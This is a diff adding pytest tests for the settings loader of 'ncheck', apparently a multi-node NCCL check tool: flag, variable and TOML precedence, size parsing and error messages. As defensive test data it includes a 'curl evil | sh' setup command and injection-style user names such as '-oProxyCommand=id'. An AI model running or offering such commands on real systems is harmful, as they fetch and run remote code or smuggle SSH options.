@@ -1,0 +1,278 @@
+"""Settings of flags, variables and ncheck.toml, and what cannot be meant."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Mapping
+from pathlib import Path
+
+import pytest
+from ncheck.errors import SettingsError
+from ncheck.settings import HostOverride, Ignore, JobEnvironment, Settings, make_settings
+
+LINE_BREAK = "it has a line break; join the commands with ';', as in 'module load nccl; source env.sh'"
+ONLY_A_FLAG = "cannot stand in a settings file"
+SIZES_AS = "write bytes a rank, as in 8, 64K, 1M, 1G, 8-1G or 1M,64M,1G"
+SIZES_FROM = ": sizes from 8 bytes to 64G are wanted, in whole floats of 4 bytes"
+OF_THE_MOMENT = "it is a decision of the moment: give it as a flag"
+
+
+def made(folder: Path, toml: str | None = None, environ: Mapping[str, str] | None = None, **flags: object) -> Settings:
+    if toml is not None:
+        (folder / "ncheck.toml").write_text(toml)
+    return make_settings(flags, environ or {}, folder)
+
+
+def refused(folder: Path, toml: str | None = None, environ: Mapping[str, str] | None = None, **flags: object) -> str:
+    with pytest.raises(SettingsError) as caught:
+        made(folder, toml, environ, **flags)
+    return str(caught.value)
+
+
+def test_with_nothing_given_the_defaults_stand(tmp_path: Path) -> None:
+    assert made(tmp_path) == Settings()
+    assert made(tmp_path, port=None, sudo=False, select=(), ignore=()) == Settings()
+
+
+def test_a_flag_outweighs_a_variable_and_that_the_file(tmp_path: Path) -> None:
+    toml = "port = 1\nwidth = 2\ndeadline = 3\nuser = 'four'"
+    environ = {"NCHECK_PORT": "10", "NCHECK_WIDTH": "20", "NCHECK_CORPUS": "not ours to judge"}
+    assert made(tmp_path, toml, environ, port=100) == Settings(port=100, width=20, deadline=3.0, user="four")
+
+
+def test_every_flag_has_its_place(tmp_path: Path) -> None:
+    key = tmp_path / "key"
+    key.touch()
+    settings = made(
+        tmp_path, nodes_file="nodes.txt", port="10001", user="alice", identity=str(key), ssh_config="none",
+        transport="openssh", accept_new_host_keys=True, python="/opt/python", setup="module load nccl; source e.sh",
+        enter="docker exec -i train", rsh="kubectl exec -i {node} --", sudo=True, width=8, connect_timeout=1.5,
+        command_timeout="20", deadline=100, mesh="none", probe="none", select=("NC1", "NC201,NC202"),
+        ignore=("NC305=node[01-04],login", "banner"), fail_on="warning,unknown", output="json", record="out",
+    )  # fmt: skip
+    assert settings == Settings(
+        nodes_file="nodes.txt", port=10001, user="alice", identity=str(key), ssh_config="none", transport="openssh",
+        accept_new_host_keys=True, sudo=True, width=8, connect_timeout=1.5, command_timeout=20.0, deadline=100.0,
+        environment=JobEnvironment("/opt/python", "module load nccl; source e.sh", "docker exec -i train",
+                                   "kubectl exec -i {node} --"),
+        mesh="none", probe="none", select=("NC1", "NC201", "NC202"),
+        ignore=(Ignore("NC305", "node[01-04],login"), Ignore("banner")), fail_on=("warning", "unknown"),
+        output="json", record="out",
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize(("typed", "sizes"), [
+    ("8", (8,)), ("64K", (65536,)), ("1GiB", (2**30,)), ("1mb", (2**20,)), ("1M, 64M,1M", (2**20, 2**26)),
+    ("8-64", (8, 16, 32, 64)), ("8-60", (8, 16, 32)), (["1M", "2M-4M"], (2**20, 2**21, 2**22)), (8, (8,)),
+])  # fmt: skip
+def test_sizes_are_a_list_a_range_of_powers_or_both(tmp_path: Path, typed: object, sizes: tuple[int, ...]) -> None:
+    assert made(tmp_path, sizes=typed).sizes == sizes
+
+
+def test_the_probe_has_its_place_in_flags_and_in_the_file(tmp_path: Path) -> None:
+    toml = 'probe = "nccl"\nprobe-time = 30\nprobe-launcher = "mpirun"\nsizes = "1M,1G"\nexpect = 380'
+    told = Settings(probe="nccl", probe_time=30.0, probe_launcher="mpirun", sizes=(2**20, 2**30), expect=380.0)
+    assert made(tmp_path, toml) == told
+    flags: dict[str, object] = {
+        "probe": "nccl",
+        "probe_time": "30",
+        "probe_launcher": "mpirun",
+        "sizes": "1M,1G",
+        "expect": "380",
+    }
+    (tmp_path / "ncheck.toml").unlink()
+    assert made(tmp_path, None, None, **flags) == told
+
+
+def test_every_key_of_the_file_has_its_place(tmp_path: Path) -> None:
+    (tmp_path / "keys").mkdir()
+    (tmp_path / "keys/id").touch()
+    (tmp_path / "ssh_config").touch()
+    toml = """
+        nodes = "hosts.txt"
+        identity = "keys/id"
+        ssh-config = "ssh_config"
+        setup = "module load nccl"
+        connect-timeout = 5
+        fail-on = ["error"]
+        select = ["NC1", "NC2"]
+        ignore = ["NC305=node07"]
+        sudo = true
+        [host."node[01-02]"]
+        python = "/opt/conda/bin/python"
+    """
+    assert made(tmp_path, toml) == Settings(
+        nodes_file=f"{tmp_path}/hosts.txt", identity=f"{tmp_path}/keys/id", ssh_config=f"{tmp_path}/ssh_config",
+        environment=JobEnvironment(setup="module load nccl"), connect_timeout=5.0, fail_on=("error",),
+        select=("NC1", "NC2"), ignore=(Ignore("NC305", "node07"),), sudo=True,
+        overrides=(HostOverride("node[01-02]", JobEnvironment(python="/opt/conda/bin/python")),),
+    )  # fmt: skip
+
+
+def test_the_environment_of_a_node_is_the_first_override_s_and_for_the_rest_the_run_s(tmp_path: Path) -> None:
+    toml = """
+        setup = "module load nccl"
+        enter = "docker exec -i train"
+        [host."node[01-04]"]
+        python = "/a"
+        enter = ""
+        [host."node04,login"]
+        python = "/b"
+    """
+    settings = made(tmp_path, toml)
+    assert settings.environment_of("node04") == JobEnvironment("/a", "module load nccl")
+    assert settings.environment_of("login") == JobEnvironment("/b", "module load nccl", "docker exec -i train")
+    assert settings.environment_of("gpu1") == JobEnvironment(None, "module load nccl", "docker exec -i train")
+
+
+def test_a_flag_holds_for_every_node_whatever_the_file_says_of_some(tmp_path: Path) -> None:
+    settings = made(tmp_path, '[host.node01]\npython = "/a"\nsetup = "x"\n', python="/mine")
+    assert settings.environment_of("node01") == JobEnvironment("/mine", "x")
+
+
+def test_nodes_on_the_command_line_replace_those_of_the_file(tmp_path: Path) -> None:
+    assert made(tmp_path, 'nodes = "hosts.txt"', hosts="a,b") == Settings(hosts="a,b")
+    assert made(tmp_path, 'nodes = "hosts.txt"', slurm=True) == Settings(slurm=True)
+
+
+@pytest.mark.parametrize(
+    ("flags", "message"),
+    [
+        ({"setup": "a\nb"}, f"--setup: {LINE_BREAK}"),
+        ({"setup": "a\x1bb"}, "--setup: it has characters that cannot be printed"),
+        ({"enter": "docker 'exec"}, "--enter: it cannot be split into words: no closing quotation"),
+        ({"width": 0}, "--width: a whole number from 1 to 1024 is wanted, not '0'"),
+        ({"width": "1025"}, "--width: a whole number from 1 to 1024 is wanted, not '1025'"),
+        ({"width": "9" * 5000}, "--width: a whole number from 1 to 1024 is wanted, not '" + "9" * 57 + "...'"),
+        ({"port": 65536}, "--port: a whole number from 1 to 65535 is wanted, not '65536'"),
+        ({"deadline": 0}, "--deadline: a number of seconds above 0 is wanted, not '0'"),
+        ({"deadline": "0"}, "--deadline: a number of seconds above 0 is wanted, not '0'"),
+        ({"connect_timeout": "nan"}, "--connect-timeout: a number of seconds above 0 is wanted, not 'nan'"),
+        ({"command_timeout": "inf"}, "--command-timeout: a number of seconds above 0 is wanted, not 'inf'"),
+        ({"fail_on": "fatal"}, "--fail-on: 'fatal' is none of error, warning, info, unknown, never"),
+        ({"fail_on": "never,error"}, "--fail-on: never stands alone: nothing else can be counted beside it"),
+        ({"ignore": ("=node01",)}, "--ignore: '' is no check; write its code or name, as in NC305 or NC305=node07"),
+        ({"ignore": ("NC305=",)}, "--ignore: 'NC305=' names no node; write NC305=node07, or NC305 alone for all nodes"),
+        ({"ignore": ("NC305=;",)}, "--ignore: ';' is no host name: letters, digits, '.', '_' and '-' may be in one"),
+        ({"select": ("NC 1",)}, "--select: 'NC 1' is no list of names, as in a,b"),
+        ({"mesh": "ring"}, "--mesh: one of auto, all, none is wanted, not 'ring'"),
+        ({"probe": "full"}, "--probe: one of auto, nccl, nccl-tests, gloo, tcp, none is wanted, not 'full'"),
+        ({"probe_time": "1e9"}, "--probe-time: up to 86400 seconds are wanted, a day, not '1e9'"),
+        ({"probe_time": "0"}, "--probe-time: a number of seconds above 0 is wanted, not '0'"),
+        ({"probe_launcher": "srun"}, "--probe-launcher: one of agents, mpirun is wanted, not 'srun'"),
+        ({"sizes": "big"}, f"--sizes: 'big' is no size; {SIZES_AS}"),
+        ({"sizes": "1M,"}, "--sizes: '1M,' names no size where one should stand; write 8-1G, or 1M,64M,1G"),
+        ({"sizes": ""}, "--sizes: '' names no size where one should stand; write 8-1G, or 1M,64M,1G"),
+        ({"sizes": "-1"}, "--sizes: '-1' has one end alone; write both, as in 8-1G"),
+        ({"sizes": "8-"}, "--sizes: '8-' has one end alone; write both, as in 8-1G"),
+        ({"sizes": "8-1G-2G"}, f"--sizes: '1G-2G' is no size; {SIZES_AS}"),
+        ({"sizes": "1e9"}, f"--sizes: '1e9' is no size; {SIZES_AS}"),
+        ({"sizes": "1T"}, f"--sizes: '1T' is no size; {SIZES_AS}"),
+        ({"sizes": "²"}, f"--sizes: '²' is no size; {SIZES_AS}"),
+        ({"sizes": "9" * 5000}, "--sizes: '" + "9" * 57 + f"...' is no size; {SIZES_AS}"),
+        ({"sizes": "1G-8"}, "--sizes: '1G-8' ends before it begins; the smaller size stands first, as in 8-1G"),
+        ({"sizes": "0"}, f"--sizes: '0'{SIZES_FROM}"),
+        ({"sizes": "4"}, f"--sizes: '4'{SIZES_FROM}"),
+        ({"sizes": "65G"}, f"--sizes: '65G'{SIZES_FROM}"),
+        ({"sizes": "1001"}, f"--sizes: '1001'{SIZES_FROM}"),
+        ({"expect": "0"}, "--expect: a bus bandwidth in GB/s is wanted, as in 380, not '0'"),
+        ({"expect": "inf"}, "--expect: a bus bandwidth in GB/s is wanted, as in 380, not 'inf'"),
+        ({"transport": "rsh"}, "--transport: one of auto, paramiko, openssh is wanted, not 'rsh'"),
+        ({"user": "-oProxyCommand=id"}, "--user: '-oProxyCommand=id' is no user name"),
+        ({"user": "a;b"}, "--user: 'a;b' is no user name"),
+        ({"identity": "/no/such/key"}, "-i: /no/such/key is no file; the keys that are there: ls ~/.ssh"),
+        ({"ssh_config": "/no/config"}, "-F: /no/config is no file; those that are there: ls ~/.ssh"),
+        ({"ssh_config": "/"}, "-F: / is no file; those that are there: ls ~/.ssh"),
+        ({"nodes_file": "a", "hosts": "b"}, "the nodes file and -H each say which nodes: give one of them"),
+        ({"hosts": "b", "slurm": True}, "-H and --slurm each say which nodes: give one of them"),
+        ({"probe": "tcp", "probe_launcher": "mpirun"},
+         "--probe-launcher mpirun starts ranks of NCCL, and --probe tcp has none: leave out one of the two"),
+        ({"nodes_file": ""}, "the nodes file: it is empty"), ({"hosts": " "}, "-H: it is empty"),
+        ({"config": "mine.toml"}, "mine.toml: no such file"),
+    ],
+)  # fmt: skip
+def test_a_flag_that_cannot_be_meant_is_told(tmp_path: Path, flags: dict[str, object], message: str) -> None:
+    assert refused(tmp_path, None, None, **flags) == message
+
+
+@pytest.mark.parametrize(
+    ("toml", "message"),
+    [
+        ("prot = 22", "no setting is called 'prot'; did you mean port?"),
+        ("hots = 'a'", "no setting is called 'hots'; did you mean host?"),
+        ("port = '22nd'", "port: a whole number from 1 to 65535 is wanted, not '22nd'"),
+        ("port = true", "port: a whole number from 1 to 65535 is wanted, not 'True'"),
+        ("sudo = 1.5", "sudo: true or false is wanted"),
+        ("select = 5", "select: a text or a list of texts is wanted"),
+        ("ignore = ['NC5=']", "ignore: 'NC5=' names no node; write NC5=node07, or NC5 alone for all nodes"),
+        ("ignore = [5]", "ignore: CHECK or CHECK=nodes is wanted"),
+        ("setup = '''a\nb'''", f"setup: {LINE_BREAK}"),
+        ("accept-new-host-keys = true", f"accept-new-host-keys {ONLY_A_FLAG}: {OF_THE_MOMENT}"),
+        ("hosts = 'a'", f'hosts {ONLY_A_FLAG}: name a host file by nodes = "hosts.txt", or give -H as a flag'),
+        ("host = 5", 'host: a table a set of nodes is wanted: [host."node[01-04]"]'),
+        ("[host]\na = 5", "host.'a': a table is wanted"),
+        ("[host.'n[1-']\nsetup = 'x'", "host.'n[1-': 'n[1-' is no range of hosts: write it as node[01-16,20]"),
+        ("[host.a]\nport = 22", "host.'a': no setting is called 'port'; known are enter, python, rsh, setup"),
+        ("[host.a]\nstup = 'x'", "host.'a': no setting is called 'stup'; did you mean setup?"),
+    ],
+)  # fmt: skip
+def test_a_file_that_cannot_be_meant_is_told_with_its_key(tmp_path: Path, toml: str, message: str) -> None:
+    assert refused(tmp_path, toml) == f"ncheck.toml: {message}"
+
+
+def test_a_file_that_is_no_toml_is_told_with_its_line(tmp_path: Path) -> None:
+    assert refused(tmp_path, "port = 22\nwidth = = 3\n").startswith("ncheck.toml: it is not TOML: ")
+    (tmp_path / "ncheck.toml").write_bytes(b"user = '\xff'")
+    assert refused(tmp_path) == "ncheck.toml: it is not UTF-8"
+
+
+def test_a_bad_variable_is_told_by_its_name(tmp_path: Path) -> None:
+    assert refused(tmp_path, None, {"NCHECK_PORT": "ssh"}) == (
+        "NCHECK_PORT: a whole number from 1 to 65535 is wanted, not 'ssh'"
+    )
+
+
+def test_a_file_may_be_named_or_left_out(tmp_path: Path) -> None:
+    (tmp_path / "mine.toml").write_text("port = 7")
+    assert made(tmp_path, "port = 5", config="mine.toml") == Settings(port=7)
+    assert made(tmp_path, "port = 5", {"NCHECK_CONFIG": "mine.toml"}) == Settings(port=7)
+    assert made(tmp_path, "port = 5", config="none") == Settings()
+
+
+def test_a_found_file_that_anybody_may_write_to_is_refused_and_a_named_one_is_used(tmp_path: Path) -> None:
+    (tmp_path / "ncheck.toml").write_text("setup = 'curl evil | sh'")
+    (tmp_path / "ncheck.toml").chmod(0o666)
+    assert refused(tmp_path) == (
+        "ncheck.toml: anybody may write to it, and it may name commands to run on the nodes: chmod o-w ncheck.toml"
+    )
+    settings = made(tmp_path, config="ncheck.toml")
+    assert settings.environment == JobEnvironment(setup="curl evil | sh")
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file away")
+def test_a_found_file_of_somebody_else_is_refused_unless_sudo_was_theirs(tmp_path: Path) -> None:
+    (tmp_path / "ncheck.toml").write_text("port = 5")
+    os.chown(tmp_path / "ncheck.toml", 4242, 4242)
+    assert refused(tmp_path) == (
+        "ncheck.toml: it is not yours but user 4242's, and it may name commands to run on the nodes; read it, then"
+        " name it yourself: --config ncheck.toml (or --config none to go on without)"
+    )
+    assert made(tmp_path, None, {"SUDO_UID": "4242"}) == Settings(port=5)
+    assert made(tmp_path, config="ncheck.toml") == Settings(port=5)
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to any group")
+def test_a_found_file_that_a_shared_group_may_write_to_is_refused(tmp_path: Path) -> None:
+    (tmp_path / "ncheck.toml").write_text("port = 5")
+    (tmp_path / "ncheck.toml").chmod(0o664)
+    assert made(tmp_path) == Settings(port=5)
+    os.chown(tmp_path / "ncheck.toml", 0, 4242)
+    (tmp_path / "ncheck.toml").chmod(0o664)
+    assert refused(tmp_path) == (
+        "ncheck.toml: its group may write to it, and it may name commands to run on the nodes: chmod g-w ncheck.toml"
+    )
+
+
+def test_a_link_to_nowhere_is_no_silent_default(tmp_path: Path) -> None:
+    (tmp_path / "ncheck.toml").symlink_to("gone.toml")
+    assert refused(tmp_path) == "ncheck.toml: no such file"
